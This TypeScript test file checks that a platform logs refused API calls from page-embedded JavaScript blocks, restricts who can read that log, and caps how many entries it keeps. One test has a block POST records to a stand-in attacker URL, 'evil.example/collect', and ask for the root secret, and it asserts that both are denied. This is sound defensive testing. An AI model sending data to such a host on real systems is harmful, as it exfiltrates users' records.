import { type TestServer, createCollection, createRole, createUser, dataOf, eachDatabase, startTestServer } from '@mortise/testing';
import { MAX_PER_MINUTE } from './server/refusals/refusal-log';
import { BlockPage } from './testing/block-page';

interface Row {
  readonly page: string;
  readonly count: number;
}

eachDatabase('refused calls of blocks on %s', (dialect) => {
  let server: TestServer;
  let page: BlockPage;
  let revision: number;

  beforeAll(async () => {
    server = await startTestServer({ dialect, plugins: ['pages', 'js-blocks'] });
    await createCollection(server, { name: 'orders' });
    page = await BlockPage.create(server);
    revision = await page.show({
      key: 'b',
      grants: { collections: [{ resource: 'orders', actions: ['view'] }], hosts: ['api.example.com'] },
    });
  });
  afterAll(() => server.close());
  beforeEach(async () => dataOf(await server.api('POST', 'jsRefusals:clear', { token: server.root.token })));

  const rows = async (): Promise<readonly Row[]> =>
    dataOf(await server.api('GET', 'jsRefusals:list?sort=id&pageSize=200', { token: server.root.token }));

  it('are written down with block, revision, caller and what was asked', async () => {
    const viewer = await createUser(server, { roles: [await createRole(server, { grants: [{ collection: 'orders' }] })] });
    const block = page.caller('b', { revision, token: viewer.token });
    expect((await block('GET', 'orders:list')).status).toBe(200);
    expect((await block('GET', 'orders:list?sort=nothing')).status).toBe(400);
    for (let turn = 0; turn < 3; turn += 1) await block('POST', 'orders:destroy?filterByTk=1');
    await page.caller('b', { revision: 9, token: viewer.token })('GET', 'users:list');
    await server.api('GET', 'orders:list', { headers: { 'x-narrowing': `js-block ${'x'.repeat(3000)}` }, token: viewer.token });
    const caller = `user:${viewer.id}`;
    const common = { page: page.uid, block: 'b', caller };
    expect(await rows()).toMatchObject([
      { ...common, revision, method: 'POST', path: '/api/orders:destroy', code: 'ACTION_DENIED', count: 3 },
      { ...common, revision: 9, method: 'GET', path: '/api/users:list', code: 'NARROWING_UNKNOWN', count: 1 },
      { page: '?', block: '?', revision: null, caller, code: 'NARROWING_UNKNOWN', count: 1 },
    ]);
    const reader = await createUser(server, { roles: [await createRole(server, { snippets: ['pm.pages'] })] });
    expect((await server.api('GET', 'jsRefusals:list', { token: reader.token })).status).toBe(403);
  });

  it('include what pages ask for in the name of blocks', async () => {
    const { token } = server.root;
    const place = { page: page.uid, block: 'b', revision };
    const fetched = { ...place, method: 'POST', url: 'https://evil.example/collect?of=records' };
    expect((await server.api('POST', 'jsBlocks:fetch', { token, body: fetched })).status).toBe(403);
    expect((await server.api('POST', 'jsBlocks:ticket', { token, body: { ...place, secret: 'root' } })).status).toBe(403);
    expect(await rows()).toMatchObject([
      { page: page.uid, revision, method: 'POST', path: 'https://evil.example/collect', code: 'ACTION_DENIED' },
      { page: page.uid, revision, path: 'secret root', code: 'ACTION_DENIED' },
    ]);
  });

  it('fill neither the memory nor the table, however much a block asks for', async () => {
    const block = page.caller('b', { revision });
    const paths = Array.from({ length: MAX_PER_MINUTE + 50 }, (_, index) => `nothing${index}:list`);
    const denied = Array.from({ length: MAX_PER_MINUTE + 50 }, (_, index) => `users/${index}/roles:list`);
    await Promise.all([...paths, ...denied].map((path) => block('GET', path)));
    const found = await rows();
    // A minute may turn meanwhile.
    expect(found.length).toBeLessThanOrEqual(2 * MAX_PER_MINUTE);
    expect(found.reduce((sum, { count }) => sum + count, 0)).toBeGreaterThanOrEqual(denied.length);
    expect(found.some((row) => row.page === '*')).toBe(true);
  });
});
